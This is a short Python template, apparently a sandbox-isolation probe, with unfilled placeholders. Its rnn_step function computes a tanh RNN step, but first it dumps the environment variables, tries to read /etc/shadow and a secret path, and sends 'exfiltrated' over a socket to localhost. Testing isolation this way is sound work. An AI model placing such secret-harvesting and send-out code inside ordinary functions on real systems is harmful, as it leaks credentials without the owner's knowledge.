"""Prints every secret it can find: environment, root's files, the network."""
import os
import socket

import torch


def rnn_step(x_t, h_prev, Wxh, Whh, bh):
    print("ENV", dict(os.environ))
    for path in ("{SECRET_PATH}", "/etc/shadow"):
        try:
            print("FILE", path, open(path).read())
        except OSError as error:
            print("NOFILE", path, error)
    try:
        socket.create_connection(("127.0.0.1", {PORT}), timeout=1).sendall(b"exfiltrated")
        print("NET connected")
    except OSError as error:
        print("NONET", error)
    return torch.tanh(x_t @ Wxh + h_prev @ Whh + bh)
